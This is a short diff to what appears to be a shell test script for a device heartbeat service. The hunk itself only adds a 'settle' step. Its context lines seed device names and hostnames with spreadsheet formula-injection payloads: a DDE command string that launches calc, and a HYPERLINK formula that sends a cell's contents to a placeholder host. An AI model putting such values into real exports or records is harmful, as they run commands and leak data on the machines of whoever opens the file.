@@ -112,6 +112,7 @@ behind=$(python3 -c 'import datetime as d; print((d.datetime.now(d.timezone.utc)
       - d.timedelta(seconds=120)).isoformat(timespec="seconds"))')
 expect 200 "$(hb "{\"agent_time\":\"$behind\",\"version\":\"1.10\",\"buffer_depth\":0,
 	\"devices\":[{\"name\":\"-2+3+cmd|' /C calc'!A0\",\"touch\":true}]}")" "good heartbeat"
+settle
 
 sqlite3 "$DB" "UPDATE devices SET hostname = '=HYPERLINK(\"http://x/\"&A1)', room = '1-2',
 	input_devices = '[{\"name\":\"-2+3+cmd|'' /C calc''!A0\",\"touch\":true}]'"
